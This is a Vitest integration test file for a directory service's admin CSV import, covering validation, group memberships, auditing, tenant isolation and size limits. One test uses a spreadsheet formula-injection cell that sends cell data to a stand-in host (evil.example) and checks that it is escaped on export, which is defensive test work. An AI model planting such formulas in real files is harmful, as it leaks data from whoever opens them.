import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, rawRequest, type TestApp } from '../helpers/test-app.ts';

const ENTERPRISE = 'urn:ietf:params:scim:schemas:extension:enterprise:2.0:User';
const GROUP = 'urn:ietf:params:scim:schemas:core:2.0:Group';

let t: TestApp;
let admin: string;
beforeAll(async () => {
  t = await createTestApp();
  admin = await t.token({ scopes: ['admin'] });
});
afterAll(async () => {
  await t.close();
});

async function importCSV(csv: string, query: string, token = admin) {
  const res = await rawRequest(t.app, `/admin/v1/imports?${query}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'text/csv' },
    body: csv,
  });
  return { status: res.status, body: await res.json() };
}

async function userByName(userName: string) {
  const res = await t.request(
    'GET',
    `/scim/v2/Users?filter=${encodeURIComponent(`userName eq "${userName}"`)}`,
  );
  return (await res.json()).Resources[0];
}

async function auditTypes(type: string): Promise<number> {
  const { rows } = await t.services.db.pool.query<{ n: number }>(
    'select count(*)::int as n from audit_events where type = $1',
    [type],
  );
  return rows[0]?.n ?? 0;
}

const CREATE = [
  `email,username,language,name.givenName,name.familyName,title,${ENTERPRISE}:employeeNumber`,
  'anna@care.example,anna,sv-SE,Anna,Berg,Nurse,E-1',
  'bo@care.example,bo,en-GB,Bo,Ek,Carer,E-2',
  'cai@care.example,cai,en-GB,Cai,Lund,Nurse,E-3',
].join('\n');

describe('CSV import through the admin API', () => {
  it('Should create users from a create file, audit the run, and change nothing when it runs again', async () => {
    const first = await importCSV(CREATE, 'mode=create');
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ mode: 'create', rows: 3, created: 3, failed: 0 });
    const anna = await userByName('anna');
    expect(anna).toMatchObject({
      emails: [{ value: 'anna@care.example', primary: true }],
      preferredLanguage: 'sv-SE',
      name: { givenName: 'Anna', familyName: 'Berg' },
      title: 'Nurse',
      [ENTERPRISE]: { employeeNumber: 'E-1' },
      active: true,
    });
    expect(await auditTypes('import.create')).toBe(1);
    const created = await auditTypes('user.created');

    const again = await importCSV(CREATE, 'mode=create');
    expect(again.body).toMatchObject({ rows: 3, created: 0, unchanged: 3, failed: 0 });
    expect(await auditTypes('user.created')).toBe(created);
    expect((await userByName('anna')).meta.version).toBe(anna.meta.version);
  });

  it('Should refuse a create file whose first columns are not email, username, language, and write nothing', async () => {
    const res = await importCSV('username,email,language\nzed,zed@care.example,en', 'mode=create');
    expect(res.status).toBe(400);
    expect(res.body.error).toBe('badHeader');
    expect(res.body.message).toContain('email, username, language in that order');
    expect(await userByName('zed')).toBeUndefined();
  });

  it('Should refuse an unknown column and a password column before any row is written', async () => {
    const unknown = await importCSV(
      'email,username,language,shoeSize\na@x.example,a1,en,44',
      'mode=create',
    );
    expect(unknown.status).toBe(400);
    expect(unknown.body.message).toContain('shoeSize');
    const password = await importCSV(
      'email,username,language,password\na@x.example,a1,en,x',
      'mode=create',
    );
    expect(password.status).toBe(400);
    expect(await userByName('a1')).toBeUndefined();
  });

  it('Should report each bad row by line and reason and still import the good ones', async () => {
    const csv = [
      'email,username,language,active',
      'dan@care.example,dan,en,true',
      'dup@care.example,dan,en,true', // line 3: username taken by line 2
      'eve@care.example,eve,en', // line 4: a cell short
      'fay@care.example,fay,en,maybe', // line 5: not a boolean
      'anna@care.example,gus,en,true', // line 6: email in use (first test)
      ',,en,true', // line 7: no username
      'hal@care.example,hal,en,false',
    ].join('\n');
    const res = await importCSV(csv, 'mode=create');
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ rows: 7, created: 2, failed: 5 });
    const lines = res.body.failures.map((f: { line: number }) => f.line).sort();
    expect(lines).toEqual([3, 4, 5, 6, 7]);
    const reason = (line: number) =>
      res.body.failures.find((f: { line: number }) => f.line === line).reason as string;
    expect(reason(3)).toContain('dan');
    expect(reason(4)).toContain('3 cells');
    expect(reason(5)).toContain('active');
    expect(reason(6)).toContain('anna@care.example');
    expect(reason(7)).toContain('username');
    expect((await userByName('hal')).active).toBe(false);
    expect(await userByName('eve')).toBeUndefined();
  });

  it('Should report a malformed row (an unclosed quote) and keep the rows before it', async () => {
    const res = await importCSV(
      'email,username,language\nivy@care.example,ivy,en\n"jo@care.example,jo,en\nkim@care.example,kim,en\n',
      'mode=create',
    );
    expect(res.status).toBe(200);
    expect(res.body.created).toBe(1);
    expect(res.body.failed).toBe(1);
    expect(res.body.failures[0].reason).toContain('Quote');
  });

  it('Should update users matched on email, a blank cell removing the value, and be idempotent', async () => {
    const csv = `match,title,name.givenName\nbo@care.example,Senior carer,\nnobody@care.example,X,Y\n`;
    const res = await importCSV(csv, 'mode=update&matchOn=email');
    expect(res.body).toMatchObject({ rows: 2, updated: 1, failed: 1, unchanged: 0 });
    expect(res.body.failures[0]).toMatchObject({
      line: 3,
      reason: expect.stringContaining('nobody'),
    });
    const bo = await userByName('bo');
    expect(bo.title).toBe('Senior carer');
    expect(bo.name).toEqual({ familyName: 'Ek' });
    expect((await importCSV(csv, 'mode=update&matchOn=email')).body).toMatchObject({
      updated: 0,
      unchanged: 1,
    });
    expect(await auditTypes('import.update')).toBe(2);
  });

  it('Should deactivate and reactivate users matched on employee number, and rule memberships follow', async () => {
    const group = await (
      await t.request('POST', '/scim/v2/Groups', {
        body: { schemas: [GROUP], displayName: 'Nurses' },
      })
    ).json();
    const rule = await rawRequest(t.app, `/admin/v1/groups/${group.id}/rule`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/json' },
      body: JSON.stringify({ rule: 'title eq "Nurse"' }),
    });
    expect(rule.status).toBe(200);
    const members = async () =>
      ((await (await t.request('GET', `/scim/v2/Groups/${group.id}`)).json()).members ?? [])
        .map((m: { display: string }) => m.display)
        .sort();
    expect(await members()).toEqual(['anna', 'cai']);

    const off = await importCSV('match\nE-1\nE-9\n', 'mode=deactivate&matchOn=employeeNumber');
    expect(off.body).toMatchObject({ updated: 1, failed: 1 });
    expect((await userByName('anna')).active).toBe(false);
    expect(await members()).toEqual(['cai']);
    expect(
      (await importCSV('match\nE-1\n', 'mode=deactivate&matchOn=employeeNumber')).body,
    ).toMatchObject({ updated: 0, unchanged: 1 });

    const on = await importCSV('match\nE-1\n', 'mode=reactivate&matchOn=employeeNumber');
    expect(on.body).toMatchObject({ updated: 1, failed: 0 });
    expect((await userByName('anna')).active).toBe(true);
    expect(await members()).toEqual(['anna', 'cai']);

    // A created nurse joins the rule group in the same transaction, audited with its source.
    const before = (await t.request('GET', `/scim/v2/Groups/${group.id}`)).headers.get('etag');
    const created = await importCSV(
      'email,username,language,title\ndag@care.example,dag,en,Nurse\n',
      'mode=create',
    );
    expect(created.body).toMatchObject({ created: 1, failed: 0 });
    expect(await members()).toEqual(['anna', 'cai', 'dag']);
    const dag = await userByName('dag');
    const { rows } = await t.services.db.pool.query(
      `select after from audit_events where subject_id = $1 and type = 'user.created'`,
      [dag.id],
    );
    expect(rows[0].after.membershipsAdded).toEqual(
      expect.arrayContaining([{ group: group.id, source: 'rule' }]),
    );
    expect((await t.request('GET', `/scim/v2/Groups/${group.id}`)).headers.get('etag')).not.toBe(
      before,
    );
    const changes = await t.services.db.pool.query(
      `select operation from change_events where resource_id = $1`,
      [dag.id],
    );
    expect(changes.rows).toEqual([{ operation: 'created' }]);
  });

  it('Should apply a batch of updates with the one-account semantics: memberships, audit, renames, repeats', async () => {
    const make = await importCSV(
      'email,username,language,title\nbatch.a@care.example,batch.a,en,Nurse\nbatch.b@care.example,batch.b,en,Carer\nbatch.c@care.example,batch.c,en,Carer\n',
      'mode=create',
    );
    expect(make.body).toMatchObject({ created: 3 });
    const a = await userByName('batch.a');
    const nurses = await (
      await t.request(
        'GET',
        `/scim/v2/Groups?filter=${encodeURIComponent('displayName eq "Nurses"')}`,
      )
    ).json();
    const rota = await (
      await t.request('POST', '/scim/v2/Groups', {
        body: { schemas: [GROUP], displayName: 'Rota', members: [{ value: a.id }] },
      })
    ).json();
    const groupsOf = async (name: string) =>
      ((await userByName(name)).groups ?? []).map((g: { display: string }) => g.display).sort();
    expect(await groupsOf('batch.a')).toEqual(['All Users', 'Nurses', 'Rota']);

    // One batch: a rename to a taken username fails alone, a repeated row applies in file
    // order, a title change moves a user into the rule group.
    const update = await importCSV(
      'match,userName,title\nbatch.b@care.example,anna,Carer\nbatch.c@care.example,batch.c,Nurse\nbatch.a@care.example,batch.a,Carer\nbatch.a@care.example,batch.a,Nurse\n',
      'mode=update&matchOn=email',
    );
    expect(update.body).toMatchObject({ rows: 4, updated: 3, unchanged: 0, failed: 1 });
    expect(update.body.failures).toEqual([{ line: 2, reason: 'userName anna is already in use' }]);
    expect(await groupsOf('batch.c')).toEqual(['All Users', 'Nurses']);
    expect(await groupsOf('batch.a')).toEqual(['All Users', 'Nurses', 'Rota']);
    expect((await userByName('batch.b')).title).toBe('Carer');

    // Deactivation ends every membership, the manual one too, remembered in the audit event;
    // reactivation restores the rule's, never the manual one.
    const off = await importCSV('match\nbatch.a\nbatch.c\n', 'mode=deactivate');
    expect(off.body).toMatchObject({ updated: 2, failed: 0 });
    expect(await groupsOf('batch.a')).toEqual([]);
    const { rows } = await t.services.db.pool.query(
      `select after from audit_events where subject_id = $1 and type = 'user.updated' order by id desc limit 1`,
      [a.id],
    );
    expect(rows[0].after.membershipsRemoved).toEqual(
      expect.arrayContaining([
        { group: rota.id, source: 'manual' },
        { group: nurses.Resources[0].id, source: 'rule' },
      ]),
    );
    expect((await importCSV('match\nbatch.a\n', 'mode=reactivate')).body).toMatchObject({
      updated: 1,
    });
    expect(await groupsOf('batch.a')).toEqual(['All Users', 'Nurses']);
    const changes = await t.services.db.pool.query(
      `select operation, version from change_events where resource_id = $1 order by id`,
      [a.id],
    );
    // Created, two title changes, deactivated, reactivated: a change event each, in version order.
    expect(changes.rows).toEqual([
      { operation: 'created', version: 1 },
      ...[2, 3, 4, 5].map((version) => ({ operation: 'updated', version })),
    ]);
  });

  it('Should set externalId and care extension columns, and match on externalId', async () => {
    const CARE = 'urn:ietf:params:scim:schemas:extension:carebridge:2.0:User';
    const csv = `email,username,language,externalId,${CARE}:jobTitle\nvi@care.example,vi,en,HR-77,Night carer\n`;
    const res = await importCSV(csv, 'mode=create');
    expect(res.body).toMatchObject({ created: 1, failed: 0 });
    const vi = await userByName('vi');
    expect(vi.externalId).toBe('HR-77');
    expect(vi[CARE].jobTitle).toBe('Night carer');
    // Again: the care directory's computed attributes do not make the row look changed.
    expect((await importCSV(csv, 'mode=create')).body).toMatchObject({ unchanged: 1, failed: 0 });
    // externalId is case-exact (RFC 7643 §3.1): hr-77 is another value.
    const off = await importCSV('match\nhr-77\nHR-77\n', 'mode=deactivate&matchOn=externalId');
    expect(off.body).toMatchObject({ updated: 1, failed: 1 });
    expect((await userByName('vi')).active).toBe(false);
  });

  it('Should apply the care access rules to each row of a token acting as a user', async () => {
    const CARE = 'urn:ietf:params:scim:schemas:extension:carebridge:2.0:User';
    const tenantId = (await t.services.directory.tenants.ensure('default')).tenant.id;
    const elevated = await t.services.directory.users.create(
      { tenantId, actor: { type: 'system', id: null }, requestId: null },
      {
        userName: 'eli',
        externalId: null,
        status: 'active',
        attrs: { [CARE]: { elevatedAccess: true } },
      },
    );
    const token = await t.token({ scopes: ['admin'], userId: elevated.id });
    const csv = `email,username,language,${CARE}:adminAccess\nmo@care.example,mo,en,true\nno@care.example,no,en,\n`;
    const res = await importCSV(csv, 'mode=create', token);
    expect(res.body).toMatchObject({ created: 1, failed: 1 });
    expect(res.body.failures[0]).toMatchObject({
      line: 2,
      reason: 'only a user with admin access may grant or remove admin access',
    });
    expect(await userByName('mo')).toBeUndefined();
    const { rows } = await t.services.db.pool.query(
      `select actor_type, actor_id from audit_events where type = 'user.created' and after->>'userName' = 'no'`,
    );
    expect(rows).toEqual([{ actor_type: 'user', actor_id: elevated.id }]);
  });

  it('Should refuse extra columns in a deactivate file and a match field it does not know', async () => {
    expect(
      (await importCSV('match,title\nE-1,x\n', 'mode=deactivate&matchOn=employeeNumber')).status,
    ).toBe(400);
    const bad = await importCSV('match\nE-1\n', 'mode=deactivate&matchOn=password');
    expect(bad.status).toBe(400);
    expect(bad.body.message).toContain('matchOn');
  });

  it('Should store a formula injection cell as the text it is and export it escaped', async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const csv = `email,username,language,displayName,title\nmal@care.example,mal,en,"${formula.replaceAll('"', '""')}",+SUM(1)\n`;
    const res = await importCSV(csv, 'mode=create');
    expect(res.body.created).toBe(1);
    const mal = await userByName('mal');
    expect(mal.displayName).toBe(formula);
    expect(mal.title).toBe('+SUM(1)');

    const exported = await rawRequest(t.app, '/admin/v1/exports/users.csv', {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(exported.headers.get('content-type')).toContain('text/csv');
    const text = await exported.text();
    const line = text.split('\n').find((l) => l.startsWith('mal@care.example')) as string;
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(line).toContain(`'+SUM(1)`);
    expect(line).not.toMatch(/,=/);
  });

  it('Should refuse a 50 MB file with a clear error and import nothing from it', async () => {
    const row = 'big@care.example,big,en\n';
    const csv = `email,username,language\n${row.repeat(Math.ceil((50 * 1024 * 1024) / row.length))}`;
    const res = await rawRequest(t.app, '/admin/v1/imports?mode=create', {
      method: 'POST',
      headers: {
        authorization: `Bearer ${admin}`,
        'content-type': 'text/csv',
        'content-length': String(Buffer.byteLength(csv)),
      },
      body: csv,
    });
    expect(res.status).toBe(413);
    expect((await res.json()).message).toContain('larger than the import limit of 20 MB');
    expect(await userByName('big')).toBeUndefined();
  });

  it('Should stop a streamed file without a length once it passes the limit', async () => {
    const chunk = new TextEncoder().encode('x'.repeat(1024 * 1024));
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent++ === 0) controller.enqueue(new TextEncoder().encode('email,username,language\n'));
        else if (sent > 30) controller.close();
        else controller.enqueue(chunk);
      },
    });
    const res = await rawRequest(t.app, '/admin/v1/imports?mode=create', {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'text/csv' },
      body,
      duplex: 'half',
    } as RequestInit);
    expect([200, 413]).toContain(res.status);
    const json = await res.json();
    if (res.status === 200) expect(json.stopped).toContain('import limit');
    else expect(json.message).toContain('import limit');
  });

  it('Should queue an invitation per created user when asked', async () => {
    const res = await importCSV(
      'email,username,language\nliv@care.example,liv,sv-SE\n',
      'mode=create&invite=true',
    );
    expect(res.body).toMatchObject({ created: 1, invited: 1 });
  });

  it('Should serve a template per mode and refuse a token without the admin scope', async () => {
    const template = await rawRequest(t.app, '/admin/v1/imports/templates/create', {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(template.headers.get('content-disposition')).toContain('ImportUserTemplate.csv');
    expect((await template.text()).startsWith('email,username,language')).toBe(true);
    const update = await rawRequest(t.app, '/admin/v1/imports/templates/update', {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect((await update.text()).startsWith('match,')).toBe(true);

    const scimOnly = await t.token({ scopes: ['scim'] });
    expect((await importCSV(CREATE, 'mode=create', scimOnly)).status).toBe(403);
    expect((await importCSV(CREATE, 'mode=create', 'not-a-token')).status).toBe(401);
  });

  it('Should import into the token tenant only: the same username elsewhere is another user', async () => {
    const other = await t.token({ tenant: 'other-care', scopes: ['admin'] });
    const res = await importCSV(
      'email,username,language\nanna@care.example,anna,en\n',
      'mode=create',
      other,
    );
    expect(res.body).toMatchObject({ created: 1, failed: 0 });
    expect((await userByName('anna')).preferredLanguage).toBe('sv-SE');
  });
});

describe('Import runs: progress while a file imports, the result after', () => {
  const runOf = async (id: string, token = admin) =>
    rawRequest(t.app, `/admin/v1/imports/${id}`, { headers: { authorization: `Bearer ${token}` } });

  it('Should record each run with its result, list it, and hide it from another tenant', async () => {
    const res = await importCSV(
      'email,username,language\nrun.one@care.example,run.one,en\nrun.two@care.example,run.two\n',
      'mode=create',
    );
    expect(res.body).toMatchObject({ created: 1, failed: 1 });
    const run = await (await runOf(res.body.id)).json();
    expect(run).toMatchObject({
      id: res.body.id,
      status: 'done',
      mode: 'create',
      rows: 2,
      created: 1,
      failed: 1,
      actor: { type: 'token' },
      failures: [{ line: 3, reason: 'the row has 2 cells; the header has 3' }],
    });
    expect(run.finishedAt).not.toBeNull();
    const list = await (
      await rawRequest(t.app, '/admin/v1/imports', {
        headers: { authorization: `Bearer ${admin}` },
      })
    ).json();
    expect(list.runs[0]).toMatchObject({ id: res.body.id, status: 'done', failures: [] });

    const other = await t.token({ tenant: 'other-care', scopes: ['admin'] });
    expect((await runOf(res.body.id, other)).status).toBe(404);
    expect((await runOf('not-a-run')).status).toBe(404);
    const scimOnly = await t.token({ scopes: ['scim'] });
    expect((await runOf(res.body.id, scimOnly)).status).toBe(403);
  });

  it('Should show a running import with the rows written so far, then its result', async () => {
    let feed!: ReadableStreamDefaultController<Uint8Array>;
    const body = new ReadableStream<Uint8Array>({ start: (c) => (feed = c) });
    const line = (i: number) => `stream.${i}@care.example,stream.${i},en\n`;
    const text = new TextEncoder();
    feed.enqueue(text.encode('email,username,language\n'));
    for (let i = 0; i < 600; i++) feed.enqueue(text.encode(line(i)));
    const answer = rawRequest(t.app, '/admin/v1/imports?mode=create', {
      method: 'POST',
      headers: { authorization: `Bearer ${admin}`, 'content-type': 'text/csv' },
      body,
      duplex: 'half',
    } as RequestInit);

    // The first 500 rows are a batch: written and reported while the file is still open.
    let running: { id: string; status: string; rows: number; created: number } | undefined;
    for (let i = 0; i < 100 && !running; i++) {
      await new Promise((r) => setTimeout(r, 200));
      const { runs } = await (
        await rawRequest(t.app, '/admin/v1/imports', {
          headers: { authorization: `Bearer ${admin}` },
        })
      ).json();
      running = runs.find(
        (r: { status: string; rows: number }) => r.status === 'running' && r.rows >= 500,
      );
    }
    expect(running).toMatchObject({ status: 'running', rows: 500, created: 500 });

    for (let i = 600; i < 1000; i++) feed.enqueue(text.encode(line(i)));
    feed.close();
    const res = await answer;
    expect(await res.json()).toMatchObject({ id: running?.id, rows: 1000, created: 1000 });
    expect(await (await runOf(running?.id as string)).json()).toMatchObject({
      status: 'done',
      rows: 1000,
      created: 1000,
    });
  });

  it('Should record a refused file as a failed run with the reason', async () => {
    const res = await importCSV('username,email,language\nzed,zed@care.example,en', 'mode=create');
    expect(res.status).toBe(400);
    const { runs } = await (
      await rawRequest(t.app, '/admin/v1/imports', {
        headers: { authorization: `Bearer ${admin}` },
      })
    ).json();
    expect(runs[0]).toMatchObject({
      status: 'failed',
      error: expect.stringContaining('email, username, language in that order'),
      rows: 0,
    });
  });

  it('Should show a run whose process stopped as interrupted, not as running forever', async () => {
    const tenantId = (await t.services.directory.tenants.findByName('default'))?.id;
    const id = '6f1c2a0e-1d2b-4c3d-8e4f-5a6b7c8d9e0f';
    await t.services.db.pool.query(
      `insert into import_runs (id, tenant_id, actor_type, mode, status, rows, started_at, heartbeat_at)
       values ($1, $2, 'cli', 'create', 'running', 1500, now() - interval '10 minutes', now() - interval '9 minutes')`,
      [id, tenantId],
    );
    expect(await (await runOf(id)).json()).toMatchObject({ status: 'interrupted', rows: 1500 });
  });
});
